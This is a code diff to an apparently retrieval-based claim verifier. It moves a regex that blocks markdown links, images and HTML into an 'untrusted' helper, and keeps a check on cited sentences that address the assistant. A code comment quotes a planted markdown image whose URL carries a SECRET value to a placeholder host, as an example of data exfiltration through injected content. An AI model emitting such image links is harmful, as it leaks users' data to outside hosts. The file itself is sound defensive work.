@@ -34,12 +34,12 @@ from .embedder import Embedder
 from .errors import ConfigError
 from .language import arabic_share
 from .quantities import quantities_supported
+from .untrusted import has_markup
 
 # Markdown images and links and HTML tags are never an answer: even copied from a cited
 # sentence, an image URL is fetched by whatever renders the answer (a planted
 # "![صورة](http://host/x?data=SECRET)" would carry data out). A bare address may be an answer
 # ("the ministry's site is www.mofa.gov"), so it needs the cited sentence to hold it.
-MARKUP = re.compile(r"!\[|\]\(|<\s*/?\s*[a-z][a-z0-9]*[\s>/]", re.IGNORECASE)
 _ADDRESS = re.compile(r"https?://\S+|www\.\S+", re.IGNORECASE)
 
 
@@ -165,7 +165,7 @@ class ClaimVerifier:
 def _blocked(claim: str, sentence: str, question: str) -> str:
     if not tokenize(claim) and not re.search(r"\d", claim):
         return "says nothing"
-    if MARKUP.search(claim):
+    if has_markup(claim):
         return "a markdown link or image, or HTML"
     if addresses_assistant(sentence):
         return "the sentence addresses the assistant"
